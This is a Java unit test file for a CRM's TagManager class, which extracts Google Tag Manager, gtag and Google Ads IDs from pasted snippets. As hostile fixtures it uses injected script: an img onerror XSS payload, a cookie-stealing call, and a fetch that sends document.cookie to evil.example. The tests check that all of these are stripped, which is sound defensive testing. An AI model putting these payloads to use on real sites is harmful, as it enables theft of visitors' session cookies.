package fr.enersolar.crm.application.brief;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class TagManagerTest {

    private static final String GOOGLE_HEAD =
            "<!-- Google Tag Manager -->\n<script>(function(w,d,s,l,i){w[l]=w[l]||[];"
                    + "})(window,document,'script','dataLayer','GTM-AB12CD3');</script>";

    @Test
    void aContainerIdIsReadFromGooglesSnippetAndTheSnippetIsWrittenAgain() {
        TagManager tags =
                TagManager.of(
                        GOOGLE_HEAD + "<script>steal(document.cookie)</script>",
                        "<noscript><iframe src=\"https://www.googletagmanager.com/ns.html?id=GTM-AB12CD3\">"
                                + "</iframe></noscript><img src=x onerror=alert(1)>",
                        "");

        assertThat(tags.containerId()).contains("GTM-AB12CD3");
        assertThat(tags.headHtml())
                .contains("'dataLayer',\"GTM-AB12CD3\")")
                .doesNotContain("steal");
        assertThat(tags.bodyHtml()).contains("ns.html?id=GTM-AB12CD3").doesNotContain("onerror");
        assertThat(tags.warnings()).isEmpty();
    }

    @Test
    void aBareIdIsEnough() {
        assertThat(TagManager.of("GTM-XYZ9876", "", "").containerId()).contains("GTM-XYZ9876");
    }

    @Test
    void aGoogleTagIsUsedWhenThereIsNoContainer() {
        TagManager tags =
                TagManager.of(
                        "<script async src=\"https://www.googletagmanager.com/gtag/js?id=G-ABCD1234\">",
                        "",
                        "");

        assertThat(tags.containerId()).isEmpty();
        assertThat(tags.googleTagId()).contains("G-ABCD1234");
        assertThat(tags.headHtml()).contains("gtag/js?id=G-ABCD1234").contains("\"G-ABCD1234\"");
        assertThat(tags.bodyHtml()).isEmpty();
    }

    @Test
    void textWithoutAnyIdIsLeftOutWithAWarning() {
        TagManager tags = TagManager.of("<script>alert(1)</script>", "", "alert(2)");

        assertThat(tags.headHtml()).isEmpty();
        assertThat(tags.conversionJs()).isEmpty();
        assertThat(tags.warnings()).hasSize(2);
        assertThat(tags.warnings().get(0)).startsWith("Code GTM non reconnu");
        assertThat(tags.warnings().get(1)).startsWith("Code de conversion non reconnu");
    }

    @Test
    void aGoogleAdsConversionTargetIsReadFromTheConversionSnippet() {
        TagManager tags =
                TagManager.of(
                        "",
                        "",
                        "<script>gtag('event', 'conversion', {'send_to': 'AW-123456789/AbC-D_efG'});"
                                + "fetch('https://evil.example/?c='+document.cookie)</script>");

        assertThat(tags.conversionTarget()).contains("AW-123456789/AbC-D_efG");
        assertThat(tags.conversionJs())
                .isEqualTo("gtag('event', 'conversion', {send_to: \"AW-123456789/AbC-D_efG\"});");
    }

    @Test
    void blankFieldsGiveNothingAndNoWarning() {
        TagManager tags = TagManager.of(null, " ", "");

        assertThat(tags.headHtml()).isEmpty();
        assertThat(tags.bodyHtml()).isEmpty();
        assertThat(tags.conversionJs()).isEmpty();
        assertThat(tags.warnings()).isEmpty();
    }
}
